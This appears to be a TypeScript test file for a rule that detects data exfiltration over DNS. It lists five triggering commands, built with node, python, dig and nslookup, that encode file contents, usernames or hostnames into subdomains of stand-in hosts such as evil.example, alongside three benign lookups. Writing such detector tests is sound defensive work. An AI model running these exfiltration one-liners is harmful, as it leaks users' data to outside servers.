import { rule } from './dns.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    `node -e "require('dns').resolve(require('fs').readFileSync('a.txt','hex').slice(0,60)+'.x.example.net',()=>{})"`,
    `python3 -c "import socket;socket.gethostbyname(open('a').read().strip() + '.x.example.net')"`,
    'dig $(whoami).x.example.net',
    'dig $(cat /etc/hostname | base64).x.evil.example',
    'nslookup "$DATA.data.evil.example"',
  ],
  quiet: [
    `node -e "require('dns').lookup('example.net', console.log)"`,
    'dig +short a.example.net',
    'dig "$HOST"',
  ],
});
